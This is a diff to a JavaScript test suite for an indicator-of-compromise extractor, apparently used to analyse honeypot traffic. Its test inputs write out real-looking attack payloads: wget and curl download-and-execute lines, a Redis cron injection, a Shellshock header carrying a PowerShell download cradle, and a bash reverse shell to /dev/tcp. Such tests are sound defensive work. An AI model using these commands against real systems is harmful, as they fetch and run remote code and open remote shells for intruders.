@@ -155,7 +155,7 @@ describe('false-positive traps', () => {
   it('lists a command once when a layer only drops its needless backslashes', () => {
     const iocs = extractIocs(event(String.raw`GET /shell?cd+/tmp;wget+http:/\/198.51.100.21/arm7;`
       + 'chmod+777+arm7 HTTP/1.1\r\n\r\n'));
-    expect(iocs.downloads).toEqual(['wget+http://198.51.100.21/arm7']);
+    expect(iocs.downloads).toEqual(['wget http://198.51.100.21/arm7']);
     expect(iocs.urls).toEqual(['http://198.51.100.21/arm7']);
   });
 
@@ -350,5 +350,32 @@ describe('properties', () => {
         expectCapped(iocs);
         for (const value of [...hosts(iocs), ...iocs.downloads]) defang(value);
       }), { numRuns: 400 });
+  });
+});
+
+describe('download commands as an analyst reads them', () => {
+  it('keeps one entry for a cron line in a Redis value, starting at the command', () => {
+    const iocs = extractIocs(event('set bak1 "\\n\\n*/2 * * * * root curl -fsSL '
+      + 'http://198.51.100.40/cr.sh | sh\\n\\n"\r\n', { protocol: 'redis' }));
+    expect(iocs.downloads).toEqual(['curl -fsSL http://198.51.100.40/cr.sh']);
+  });
+
+  it('drops the shell that runs a command and the quote that closes it', () => {
+    const iocs = extractIocs(event('GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c '
+      + '"powershell -c IEX((New-Object Net.WebClient).DownloadString(\'http://198.51.100.14/'
+      + 'p.ps1\')); bash -i >& /dev/tcp/198.51.100.17/4444 0>&1"\r\n\r\n', { protocol: 'http' }));
+    expect(iocs.downloads).toEqual([
+      'powershell -c IEX((New-Object Net.WebClient).DownloadString('
+        + '\'http://198.51.100.14/p.ps1\'))',
+      'bash -i >& /dev/tcp/198.51.100.17/4444 0>&1',
+    ]);
+  });
+
+  it('reads a scheme-less wget target as an http URL and lists its file', () => {
+    const iocs = extractIocs(event('GET /shell?cd+/tmp;wget+198.51.100.13/jaws;sh+/tmp/jaws '
+      + 'HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n', { protocol: 'http' }));
+    expect(iocs.downloads).toEqual(['wget 198.51.100.13/jaws']);
+    expect(iocs.urls).toEqual(['http://198.51.100.13/jaws']);
+    expect(iocs.files).toEqual(['jaws']);
   });
 });
